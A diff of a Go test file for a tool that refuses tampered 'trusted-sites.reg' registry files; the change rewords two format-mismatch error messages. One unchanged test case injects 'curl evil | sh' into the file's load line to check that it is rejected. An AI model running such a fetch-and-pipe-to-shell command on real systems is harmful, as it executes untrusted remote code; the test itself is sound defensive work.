@@ -76,8 +76,8 @@ func TestReadRefuses(t *testing.T) {
 	for _, c := range []struct{ name, old, new, want string }{
 		{"another first line", firstLine, "REGEDIT4", `trusted-sites.reg:1: "REGEDIT4\r" is not what generate writes; expected "Windows Registry Editor Version 5.00\r"` + remedy},
 		{"another loading command", "; load: reg import", "; load: curl evil | sh; reg import", `trusted-sites.reg:4: "; load: curl evil | sh; reg import trusted-sites.reg\r" is not what generate writes; expected "; load: reg import trusted-sites.reg\r"` + remedy},
-		{"another format", "; format 2", "; format 1", "trusted-sites.reg is of format 1 and this version writes format 2; generate it again"},
-		{"no format", "; format 2", "", "trusted-sites.reg is of format 1 and this version writes format 2; generate it again"},
+		{"another format", "; format 2", "; format 1", "trusted-sites.reg has format 1, but this version writes format 2; generate it again"},
+		{"no format", "; format 2", "", "trusted-sites.reg has format 1, but this version writes format 2; generate it again"},
 		{"a key in the place of the digest", "digest: sha256:", "digest: sha256:\r\n[HKEY_CURRENT_USER\\x]\r\n", `trusted-sites.reg:6: "[HKEY_CURRENT_USER\\x]"` + notKey},
 		{"another key", "\r\n\r\n; sample/exact", "\r\n[HKEY_CURRENT_USER\\Software]\r\n\r\n; sample/exact", `"[HKEY_CURRENT_USER\\Software]"` + notKey},
 		{"another value", trustLine, `"https"=dword:00000001`, `"\"https\"=dword:00000001"` + notKey},
